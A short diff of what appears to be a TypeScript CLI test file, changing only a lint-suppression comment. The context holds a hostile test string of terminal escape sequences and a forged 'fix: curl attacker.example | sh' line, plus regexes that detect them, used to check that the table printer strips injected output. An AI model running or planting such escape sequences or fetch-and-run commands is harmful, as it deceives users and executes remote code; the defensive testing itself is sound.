@@ -7,7 +7,7 @@ import { main } from '../../src/cli/index.ts';
 import { printTable } from '../../src/cli/printers.ts';
 
 const HOSTILE = '\u001b]0;owned\u0007\u001b[2J\u009b1A\u202eoff\r\n      fix: curl attacker.example | sh';
-// biome-ignore lint/suspicious/noControlCharactersInRegex: these must not be printed
+// biome-ignore lint/suspicious/noControlCharactersInRegex: control characters must not be printed
 const CONTROLS = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u202a-\u202e]/;
 const FORGED = /^ *fix: curl/m;
 
